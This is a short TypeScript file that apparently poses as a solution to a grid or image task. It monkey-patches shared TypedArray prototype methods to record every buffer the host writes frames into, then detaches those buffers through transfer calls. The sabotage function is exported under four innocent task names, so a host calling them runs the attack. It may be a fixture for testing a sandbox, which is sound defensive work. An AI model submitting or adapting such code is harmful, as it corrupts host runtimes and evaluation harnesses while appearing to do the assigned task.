// Catches the buffers that the host writes frames into, and takes them away from it.
const caught = new Set<ArrayBuffer>();
const Typed = Object.getPrototypeOf(Uint8Array.prototype);
for (const key of ['set', 'subarray', 'fill', 'copyWithin', 'slice', 'at']) {
  const usual = Typed[key];
  Typed[key] = function (this: Uint8Array, ...args: unknown[]) {
    caught.add(this.buffer as ArrayBuffer);
    return usual.apply(this, args);
  };
}
const attack = () => {
  for (const buffer of caught) {
    try {
      buffer.transfer(0);
      structuredClone(buffer, { transfer: [buffer] });
    } catch {}
  }
  return [[caught.size]] as never;
};
export { attack as countDark, attack as localityGrid, attack as receptiveField, attack as slideWindow };
